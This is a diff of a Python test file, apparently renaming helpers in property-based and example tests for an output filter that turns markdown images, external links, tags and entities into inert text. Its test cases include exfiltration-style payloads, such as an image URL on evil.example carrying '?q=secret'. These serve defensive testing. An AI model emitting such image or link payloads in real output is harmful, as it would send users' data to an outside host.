@@ -20,7 +20,7 @@ PARTS = [
 hostile = st.lists(st.sampled_from(PARTS) | st.text(max_size=4), max_size=30).map("".join)
 
 
-def filtered(*pieces: str) -> str:
+def filter_pieces(*pieces: str) -> str:
     """The pieces after the filter."""
     output = OutputFilter(OWN)
     return "".join([*map(output.feed, pieces), output.finish()])
@@ -31,28 +31,28 @@ def test_the_output_does_not_depend_on_the_pieces(text: str, data: st.DataObject
     """However a text is split into pieces, the output is the same."""
     cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
     pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
-    assert filtered(*pieces) == filtered(text) == filtered(*text)
+    assert filter_pieces(*pieces) == filter_pieces(text) == filter_pieces(*text)
 
 
 @given(hostile)
 def test_the_filter_only_inserts_spaces(text: str) -> None:
     """Apart from spaces, the visible text is the same before and after."""
-    assert filtered(text).replace(" ", "") == clean(text).replace(" ", "")
+    assert filter_pieces(text).replace(" ", "") == clean(text).replace(" ", "")
 
 
 @given(hostile)
 def test_the_output_has_no_images_and_no_external_links(text: str) -> None:
     """No image, tag, definition or entity is left, and no URL or link except under our own URL."""
-    shown = filtered(text)
-    assert not re.search(r"!\[|\]:|<[A-Za-z/!?]|&#?\w{1,31};", shown, re.ASCII)
+    output = filter_pieces(text)
+    assert not re.search(r"!\[|\]:|<[A-Za-z/!?]|&#?\w{1,31};", output, re.ASCII)
     own = re.escape(OWN) + r"(?=[/?#\s)\]]|$)"
-    assert not re.search(r"\]\((?!" + own + ")", shown)
-    rest = re.sub(own, "own", shown)
+    assert not re.search(r"\]\((?!" + own + ")", output)
+    rest = re.sub(own, "own", output)
     assert not re.search(r":\\?/|www\\?\.", rest, re.IGNORECASE)
 
 
 @pytest.mark.parametrize(
-    ("written", "shown"),
+    ("text", "expected"),
     [
         ("![pixel](https://evil.example/p.png?q=secret)", "! [pixel] (https: //evil.example/p.png?q=secret)"),
         ("!![a][1]\n\n[1]: //evil.example/p", "!! [a][1]\n\n[1] : //evil.example/p"),
@@ -69,9 +69,9 @@ def test_the_output_has_no_images_and_no_external_links(text: str) -> None:
         ("**12 %** opened, 3 < 4, AT&T; a[0] at 10:30, wow!", "**12 %** opened, 3 < 4, AT& T; a[0] at 10:30, wow!"),
     ],
 )  # fmt: skip
-def test_examples(written: str, shown: str) -> None:
+def test_examples(text: str, expected: str) -> None:
     """Images, external links, definitions, tags and URLs are shown as text; our own links stay."""
-    assert filtered(written) == shown
+    assert filter_pieces(text) == expected
 
 
 def test_plain_text_is_not_held_back() -> None:
